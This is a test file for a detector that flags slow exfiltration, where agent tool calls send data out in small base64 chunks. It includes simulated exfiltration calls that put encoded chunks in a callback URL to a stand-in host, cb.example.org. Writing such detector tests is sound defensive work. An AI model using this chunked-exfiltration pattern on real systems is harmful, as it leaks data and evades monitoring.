import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test } from "node:test";
import { looksEncoded, SlowExfiltrationDetector } from "../../../src/detectors/patterns/index.js";
import { call, replayFindings, run } from "./pattern-captures.js";

test("encoded runs are told from words, identifiers, account numbers and paths", () => {
  assert.ok(looksEncoded("QmFzZTY0IGVuY29kZWQgY3VzdG9tZXIgcmVjb3Jk"));
  assert.ok(looksEncoded("d41d8cd98f00b204e9800998ecf8427e"));
  assert.ok(looksEncoded(randomBytes(96).toString("base64")));
  for (const plain of [
    "internationalization",
    "getMostRecentTransactions",
    "US133000000121212121212",
    "550e8400-e29b-41d4-a716-446655440000",
    "report-2024-Q1-final_v2",
    "src/detectors/patterns/slow",
  ]) {
    assert.equal(looksEncoded(plain), false, plain);
  }
});

test("many small base64 chunks to one webhook raise a high finding naming the destination", async () => {
  const findings = await replayFindings([new SlowExfiltrationDetector()], ["slow-exfiltration.jsonl"]);
  assert.deepEqual(
    findings.map((finding) => finding.severity),
    ["medium", "high"],
  );
  const high = findings[1]!;
  assert.equal(high.category, "slow_exfiltration");
  assert.equal(high.evidence.destination, "hooks.collector-relay.example.net");
  assert.equal(high.evidence.chunk_calls, 8);
  assert.ok((high.evidence.encoded_chars as number) >= 2048);
  assert.ok((high.evidence.largest_call_chars as number) <= 300);
  assert.deepEqual(high.evidence.call_indexes, [1, 2, 3, 4, 5, 6, 7, 8]);
  assert.match(high.message, /hooks\.collector-relay\.example\.net/);
});

test("chat messages with normal text (and the odd hash or link) raise nothing", async () => {
  assert.deepEqual(await replayFindings([new SlowExfiltrationDetector()], ["slow-exfiltration-benign.jsonl"]), []);
});

test("destinations are counted apart, repeated chunks once, and inbound calls not at all", () => {
  const chunk = (seed: number): string => randomBytes(240 + seed).toString("base64");
  const spread = Array.from({ length: 10 }, (_, index) =>
    call("send_message", { recipient: `person${index}@example.com`, body: chunk(index) }, { session: "spread" }),
  );
  assert.deepEqual(run(new SlowExfiltrationDetector(), spread), []);
  const same = chunk(0);
  const repeated = Array.from({ length: 10 }, () =>
    call("send_message", { recipient: "one@example.com", body: same }, { session: "repeated" }),
  );
  assert.deepEqual(run(new SlowExfiltrationDetector(), repeated), []);
  const lookups = Array.from({ length: 10 }, (_, index) =>
    call("lookup_record", { key: chunk(index) }, { session: "in" }),
  );
  assert.deepEqual(run(new SlowExfiltrationDetector(), lookups), []);
  const out = Array.from({ length: 10 }, (_, index) =>
    call("lookup_record", { callback_url: `https://cb.example.org/r?d=${chunk(index)}` }, { session: "out" }),
  );
  const findings = run(new SlowExfiltrationDetector(), out);
  assert.equal(findings.at(-1)?.severity, "high");
  assert.equal(findings.at(-1)?.evidence.destination, "cb.example.org");
});
